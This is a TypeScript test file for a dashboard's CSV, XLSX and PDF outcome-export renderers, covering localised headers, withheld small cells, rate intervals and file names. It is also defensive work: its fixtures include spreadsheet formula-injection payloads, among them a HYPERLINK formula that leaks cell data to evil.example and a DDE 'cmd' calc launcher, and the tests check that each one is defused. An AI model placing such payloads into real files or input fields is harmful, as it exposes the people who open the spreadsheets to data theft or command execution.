import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import ExcelJS from "exceljs";
import { parseCsv } from "../../../core/csv/csv.ts";
import { formatDateTime } from "../../../core/i18n/format-date-time.ts";
import { translate } from "../../../core/i18n/index.ts";
import { locales } from "../../../core/i18n/locales.ts";
import { hasPoppler, readPdf } from "../platform/testing/pdf-text.ts";
import { buildOutcomeExport, outcomeExportFileName, reportColumns } from "./outcome-export-table.ts";
import { renderOutcomeCsv } from "./render-outcome-csv.ts";
import { renderOutcomeReportPdf } from "./render-outcome-report-pdf.ts";
import { renderOutcomeXlsx } from "./render-outcome-xlsx.ts";
import { dashboardFixture } from "./testing/dashboard-fixture.ts";

const generatedAt = new Date("2025-10-02T08:30:00.000Z");
/** Names users can type for teams and organisations that spreadsheet programs would run. */
const hostileNames = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+2",
  "-3+4",
  "@SUM(A1:A9)",
  "\tTabbed",
  "\rReturned",
];
/** exceljs' reader, on a copy (its types take an ArrayBuffer, not Node's pooled Buffer). */
async function readXlsx(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Uint8Array.from(bytes).buffer);
  return workbook;
}
const has = (path: string) => spawnSync("sh", ["-c", `command -v ${path}`]).status === 0;

describe("outcome export renderers", () => {
  it("CSV: the header block states rule set, version, period, level and suppression, in each language", () => {
    let checked = 0;
    for (const locale of locales) {
      const parsed = parseCsv(renderOutcomeCsv(dashboardFixture(), { locale, generatedAt }));
      assert.ok(parsed.ok);
      const cells = parsed.rows.flat();
      const text = cells.join("\n");
      assert.ok(text.includes("us_learning_community"), "rule set id");
      assert.ok(
        text.includes(
          translate(locale, "outcomeExports.ruleSetVersion", {
            name: translate(locale, "metrics.ruleSets.us_learning_community.name"),
            id: "us_learning_community",
            version: 1,
          }),
        ),
      );
      assert.ok(text.includes("2025-Q3 (2025-07-01 – 2025-09-30)"), "period");
      assert.ok(
        text.includes(`${translate(locale, "outcomeExports.levels.organisation")}: Kevätkumpu ry`),
        "level",
      );
      assert.ok(
        cells.includes(translate(locale, "outcomeExports.suppressionRule", { n: 5 })),
        "suppression rule",
      );
      // In Finnish time and the reader's language, not a UTC timestamp.
      assert.ok(cells.includes(formatDateTime(generatedAt.toISOString(), locale)), "generated at");
      if (locale === "fi") assert.ok(cells.includes("2.10.2025 klo 11.30"));
      checked++;
    }
    assert.equal(checked, 3);
  });

  it("CSV: raw numbers, withheld cells as the marker (never 0), rows that parse back", () => {
    const parsed = parseCsv(renderOutcomeCsv(dashboardFixture(), { locale: "en", generatedAt }));
    assert.ok(parsed.ok);
    const q3 = parsed.rows.find((r) => r[0] === "2025-Q3");
    assert.ok(q3);
    // period, caseload at end, during, employed, denominator, rate…
    assert.deepEqual(q3.slice(0, 6), ["2025-Q3", "27", "27", "8", "27", "0.2963"]);
    const small = parsed.rows.find((r) => r[0] === "Tiimi A");
    assert.ok(small);
    assert.deepEqual(small.slice(3, 8), ["withheld", "withheld", "withheld", "withheld", "withheld"]);
    assert.ok(!small.slice(3, 8).includes("0"));
  });

  it("CSV and XLSX defuse formula signs in every typed name", async () => {
    const dashboard = dashboardFixture(hostileNames);
    dashboard.scope.name = "=cmd|' /C calc'!A0";
    const parsed = parseCsv(renderOutcomeCsv(dashboard, { locale: "fi", generatedAt }));
    assert.ok(parsed.ok);
    const workbook = await readXlsx(await renderOutcomeXlsx(dashboard, { locale: "fi", generatedAt }));
    const sheetTexts: string[] = [];
    workbook.worksheets[0]?.eachRow((row) =>
      row.eachCell((cell) => {
        assert.equal(cell.type === ExcelJS.ValueType.Formula, false, "no formula cells");
        // XML reads a carriage return back as a line feed.
        if (typeof cell.value === "string") sheetTexts.push(cell.value.replace(/\n/g, "\r"));
      }),
    );
    let checked = 0;
    for (const [format, texts] of [
      ["csv", parsed.rows.flat()],
      ["xlsx", sheetTexts],
    ] as const) {
      for (const name of hostileNames) {
        assert.ok(texts.includes(`'${name}`), `${format}: ${JSON.stringify(name)} defused`);
        checked++;
      }
      const risky = texts.filter((text) => /^[=+\-@\t\r]/.test(text));
      assert.deepEqual(risky, [], `${format}: no cell starts with a formula sign`);
      assert.ok(
        texts.some((text) => text.includes(dashboard.scope.name)),
        `${format}: scope named in the header`,
      );
    }
    assert.equal(checked, 12);
  });

  it("XLSX: re-read with exceljs, header block present, counts and rates as number cells", async () => {
    const workbook = await readXlsx(
      await renderOutcomeXlsx(dashboardFixture(), { locale: "sv", generatedAt }),
    );
    const sheet = workbook.worksheets[0];
    assert.ok(sheet);
    const rows: ExcelJS.CellValue[][] = [];
    sheet.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
    const labels = rows.map((r) => r[0]);
    for (const key of ["ruleSet", "period", "level", "suppression", "generatedAt"]) {
      assert.ok(labels.includes(translate("sv", `outcomeExports.${key}`)), key);
    }
    assert.ok(rows.some((r) => r[1] === translate("sv", "outcomeExports.suppressionRule", { n: 5 })));
    const q3 = rows.find((r) => r[0] === "2025-Q3");
    assert.ok(q3);
    assert.equal(q3[1], 27);
    assert.equal(typeof q3[5], "number", "the rate is a number cell");
    assert.ok(Math.abs((q3[5] as number) - 8 / 27) < 1e-9, "the rate unrounded");
    const small = rows.find((r) => r[0] === "Tiimi A");
    assert.equal(small?.[3], translate("sv", "outcomeExports.withheld"));
  });

  it("the quarterly report shows each rate with its 95 % interval, withheld with the rate", () => {
    const dashboard = dashboardFixture();
    let checked = 0;
    let intervals = 0;
    for (const locale of locales) {
      const model = buildOutcomeExport(dashboard, { locale, generatedAt, columns: reportColumns });
      for (const [table, rows] of [
        [model.tables[0], dashboard.trend],
        [model.tables[1], dashboard.parts],
      ] as const) {
        assert.ok(table);
        const at = table.columns.indexOf(translate(locale, "outcomeExports.columns.employmentRateInterval"));
        assert.ok(at > 0, `${locale}: the interval column is in the report`);
        assert.equal(
          table.columns[at - 1],
          translate(locale, "metrics.names.employmentRate"),
          "beside the rate",
        );
        rows.forEach((row, i) => {
          const rate = row.figures.employmentRate;
          const withheld = rate.numerator.suppressed !== false || rate.denominator.suppressed !== false;
          const expected = withheld
            ? { kind: "withheld" }
            : rate.low === null || rate.high === null
              ? { kind: "empty" }
              : { kind: "interval", low: rate.low, high: rate.high };
          assert.deepEqual(table.rows[i]?.[at], expected, `${locale} row ${i}`);
          if (expected.kind === "interval") intervals++;
          assert.equal(table.rows[i]?.[at - 1]?.kind === "withheld", withheld, "withheld together");
          checked++;
        });
      }
    }
    assert.ok(checked >= 6);
    assert.ok(intervals > 0 && intervals < checked, "the fixture has shown and withheld rates");
  });

  it("PDF: a PDF in each language; pdftoppm renders page 1 when installed", async (t) => {
    const poppler = hasPoppler();
    let rendered = 0;
    for (const locale of locales) {
      const pdf = await renderOutcomeReportPdf(dashboardFixture(), { locale, generatedAt });
      assert.equal(pdf.subarray(0, 5).toString("latin1"), "%PDF-");
      if (!poppler) continue;
      const read = readPdf(pdf);
      assert.ok(read.firstPageRendered, "page 1 as PNG");
      assert.equal(read.warnings, "", "poppler printed no warnings");
      rendered++;
    }
    if (!poppler) t.skip("poppler-utils (pdftoppm) not installed: PDFs checked by signature only");
    else assert.equal(rendered, 3);
  });

  it("XLSX converts to CSV with LibreOffice headless", {
    skip: has("soffice") ? false : "LibreOffice not installed",
  }, async () => {
    const dir = mkdtempSync(join(tmpdir(), "polku-xlsx-"));
    try {
      const file = join(dir, "outcomes.xlsx");
      writeFileSync(
        file,
        await renderOutcomeXlsx(dashboardFixture(hostileNames), { locale: "fi", generatedAt }),
      );
      const run = spawnSync(
        "soffice",
        [
          `-env:UserInstallation=file://${join(dir, "profile")}`,
          "--headless",
          // UTF-8 (76), comma-separated, double-quoted: the filter's default is Latin-1.
          "--convert-to",
          "csv:Text - txt - csv (StarCalc):44,34,76",
          "--outdir",
          dir,
          file,
        ],
        { timeout: 120_000 },
      );
      assert.equal(run.status, 0, run.stderr.toString());
      const csv = readFileSync(join(dir, "outcomes.csv"), "utf8");
      assert.ok(csv.includes("Kevätkumpu ry"));
      assert.ok(csv.includes("'=HYPERLINK"), "still defused after conversion");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("file names carry level and period, never the scope's name", () => {
    const d = dashboardFixture();
    assert.equal(outcomeExportFileName(d, "xlsx"), "polku-outcomes-organisation-2025-Q3.xlsx");
    assert.ok(!outcomeExportFileName(d, "csv").includes("Kevät"));
  });
});
